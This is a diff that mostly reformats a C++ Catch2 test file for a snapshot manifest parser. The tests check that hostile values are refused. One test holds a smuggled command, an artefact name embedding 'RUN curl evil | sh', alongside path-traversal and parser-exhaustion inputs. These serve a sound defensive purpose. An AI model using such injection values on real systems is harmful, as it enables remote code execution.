@@ -1,7 +1,6 @@
 #include "snapshot/format.hpp"
 
 #include <catch2/catch.hpp>
-
 #include <functional>
 #include <limits>
 
@@ -12,16 +11,25 @@ using nlohmann::json;
 namespace {
 const std::string kHex(64, 'a');
 json valid() {
-  return json{{"format", "airheal-snapshot"},
-              {"version", 1},
-              {"channel", "stable"},
-              {"sequence", 3},
-              {"created", "2026-11-01T00:00:00Z"},
-              {"expires", "2026-12-01T00:00:00Z"},
-              {"entries", json::array({{{"path", "blobs/sha256/" + kHex}, {"size", 10}, {"sha256", kHex}, {"kind", "blob"}},
-                                       {{"path", "advisories/0/a.json"}, {"size", 5}, {"sha256", std::string(64, 'b')}, {"kind", "advisory"}, {"format", "osv"}}})},
-              {"images", json::array({{{"repository", "library/debian"}, {"tag", "12"}, {"digest", "sha256:" + kHex},
-                                       {"media_type", "application/vnd.oci.image.manifest.v1+json"}}})}};
+  return json{
+      {"format", "airheal-snapshot"},
+      {"version", 1},
+      {"channel", "stable"},
+      {"sequence", 3},
+      {"created", "2026-11-01T00:00:00Z"},
+      {"expires", "2026-12-01T00:00:00Z"},
+      {"entries",
+       json::array(
+           {{{"path", "blobs/sha256/" + kHex}, {"size", 10}, {"sha256", kHex}, {"kind", "blob"}},
+            {{"path", "advisories/0/a.json"},
+             {"size", 5},
+             {"sha256", std::string(64, 'b')},
+             {"kind", "advisory"},
+             {"format", "osv"}}})},
+      {"images", json::array({{{"repository", "library/debian"},
+                               {"tag", "12"},
+                               {"digest", "sha256:" + kHex},
+                               {"media_type", "application/vnd.oci.image.manifest.v1+json"}}})}};
 }
 std::string refusal(const json& j) {
   auto r = parse_manifest(j.dump());
@@ -100,8 +108,10 @@ TEST_CASE("malformed manifests are refused with the field named", "[snapshot][fo
 }
 
 TEST_CASE("snapshot paths are relative, plain and bounded", "[snapshot][format]") {
-  for (auto ok : {"a", "blobs/sha256/abc", "advisories/0/GO-2024-1.json", "x/y_z-1.2+b~c@d:e=f"}) CHECK(is_safe_path(ok));
-  for (auto bad : {"", "/a", "a/", "a//b", "./a", "a/./b", "a/../b", "..", "a b", "a\\b", "a\nb", "é"}) {
+  for (auto ok : {"a", "blobs/sha256/abc", "advisories/0/GO-2024-1.json", "x/y_z-1.2+b~c@d:e=f"})
+    CHECK(is_safe_path(ok));
+  for (auto bad :
+       {"", "/a", "a/", "a//b", "./a", "a/./b", "a/../b", "..", "a b", "a\\b", "a\nb", "é"}) {
     INFO(bad);
     CHECK_FALSE(is_safe_path(bad));
   }
@@ -117,7 +127,8 @@ TEST_CASE("RFC 3339 times parse with Z, offsets and fractions", "[snapshot][form
   CHECK(format_time(*parse_time("2026-02-03T04:05:06Z")) == "2026-02-03T04:05:06Z");
 }
 
-TEST_CASE("hostile manifest values from the adversarial review are refused", "[snapshot][format][hostile]") {
+TEST_CASE("hostile manifest values from the adversarial review are refused",
+          "[snapshot][format][hostile]") {
   struct Case {
     const char* what;
     std::function<void(json&)> change;
@@ -127,30 +138,43 @@ TEST_CASE("hostile manifest values from the adversarial review are refused", "[s
     j["artifacts"] = json::array({{{"name", name}, {"digest", "sha256:" + kHex}, {"size", 10}}});
   };
   auto package = [](json& j, const char* field, json value) {
-    json p{{"name", "libssl3"}, {"version", "3.0.15-1~deb12u1"}, {"architecture", "amd64"}, {"filename", "libssl3.deb"},
-           {"digest", "sha256:" + kHex}, {"size", 10}};
+    json p{{"name", "libssl3"},         {"version", "3.0.15-1~deb12u1"}, {"architecture", "amd64"},
+           {"filename", "libssl3.deb"}, {"digest", "sha256:" + kHex},    {"size", 10}};
     p[field] = value;
     j["packages"] = json::array({p});
   };
   const std::vector<Case> cases = {
       {"artefact named .", [&](json& j) { artifact(j, "."); }, "must be a plain file name"},
       {"artefact named ..", [&](json& j) { artifact(j, ".."); }, "must be a plain file name"},
-      {"artefact name with a newline", [&](json& j) { artifact(j, "app\nRUN curl evil | sh"); }, "app\\x0aRUN"},
-      {"artefact name with a carriage return", [&](json& j) { artifact(j, "a\rb"); }, "plain file name"},
-      {"artefact name starting with -", [&](json& j) { artifact(j, "--force"); }, "plain file name"},
+      {"artefact name with a newline", [&](json& j) { artifact(j, "app\nRUN curl evil | sh"); },
+       "app\\x0aRUN"},
+      {"artefact name with a carriage return", [&](json& j) { artifact(j, "a\rb"); },
+       "plain file name"},
+      {"artefact name starting with -", [&](json& j) { artifact(j, "--force"); },
+       "plain file name"},
       {"artefact name with a backslash", [&](json& j) { artifact(j, "a\\b"); }, "plain file name"},
-      {"artefact name of 256 bytes", [&](json& j) { artifact(j, std::string(256, 'a')); }, "plain file name"},
-      {"package file name going up", [&](json& j) { package(j, "filename", "../x.deb"); }, "not a safe relative path"},
-      {"package version with a slash", [&](json& j) { package(j, "version", "1/2"); }, "without '/'"},
+      {"artefact name of 256 bytes", [&](json& j) { artifact(j, std::string(256, 'a')); },
+       "plain file name"},
+      {"package file name going up", [&](json& j) { package(j, "filename", "../x.deb"); },
+       "not a safe relative path"},
+      {"package version with a slash", [&](json& j) { package(j, "version", "1/2"); },
+       "without '/'"},
       {"package name with a newline", [&](json& j) { package(j, "name", "a\nb"); }, "a\\x0ab"},
-      {"sequence 2^63-1", [](json& j) { j["sequence"] = std::numeric_limits<std::int64_t>::max(); }, "sequence must be at most"},
-      {"sequence 2^53", [](json& j) { j["sequence"] = std::int64_t{1} << 53; }, "sequence must be at most"},
+      {"sequence 2^63-1", [](json& j) { j["sequence"] = std::numeric_limits<std::int64_t>::max(); },
+       "sequence must be at most"},
+      {"sequence 2^53", [](json& j) { j["sequence"] = std::int64_t{1} << 53; },
+       "sequence must be at most"},
       {"31 February", [](json& j) { j["created"] = "2026-02-31T00:00:00Z"; }, "RFC 3339"},
-      {"29 February of a common year", [](json& j) { j["created"] = "2025-02-29T00:00:00Z"; }, "RFC 3339"},
+      {"29 February of a common year", [](json& j) { j["created"] = "2025-02-29T00:00:00Z"; },
+       "RFC 3339"},
       {"31 April", [](json& j) { j["expires"] = "2026-04-31T00:00:00Z"; }, "RFC 3339"},
       {"offset -99:99", [](json& j) { j["created"] = "2026-11-01T00:00:00-99:99"; }, "RFC 3339"},
       {"offset +24:00", [](json& j) { j["created"] = "2026-11-01T00:00:00+24:00"; }, "RFC 3339"},
-      {"threshold above the signature limit", [](json& j) { j["trust"] = {{"threshold", 17}}; }, "threshold must be at most"},
+      {"threshold above the signature limit",
+       [](json& j) {
+         j["trust"] = {{"threshold", 17}};
+       },
+       "threshold must be at most"},
   };
   for (const auto& c : cases) {
     SECTION(c.what) {
@@ -161,15 +185,19 @@ TEST_CASE("hostile manifest values from the adversarial review are refused", "[s
   }
 }
 
-TEST_CASE("manifest bytes that attack the parser are refused before they cost anything", "[snapshot][format][hostile]") {
+TEST_CASE("manifest bytes that attack the parser are refused before they cost anything",
+          "[snapshot][format][hostile]") {
   // 30 MiB of '[' (before any signature check this used to cost 2.4 GB and 32 s).
-  CHECK_THAT(parse_manifest(std::string(30u << 20, '[')).error().message, Catch::Contains("nests deeper than 8 levels"));
-  CHECK_THAT(parse_manifest(std::string(100000, '[') + std::string(100000, ']')).error().message, Catch::Contains("nests deeper"));
+  CHECK_THAT(parse_manifest(std::string(30u << 20, '[')).error().message,
+             Catch::Contains("nests deeper than 8 levels"));
+  CHECK_THAT(parse_manifest(std::string(100000, '[') + std::string(100000, ']')).error().message,
+             Catch::Contains("nests deeper"));
   // A duplicate key means different things to different readers: refused, not "last one wins".
   auto text = valid().dump();
   text.insert(1, "\"sequence\":99,");
   CHECK_THAT(parse_manifest(text).error().message, Catch::Contains("duplicate key \"sequence\""));
-  CHECK_THAT(parse_manifest(std::string(kMaxManifestBytes + 1, ' ')).error().message, Catch::Contains("larger than"));
+  CHECK_THAT(parse_manifest(std::string(kMaxManifestBytes + 1, ' ')).error().message,
+             Catch::Contains("larger than"));
 }
 
 TEST_CASE("leap days and valid offsets still parse", "[snapshot][format]") {
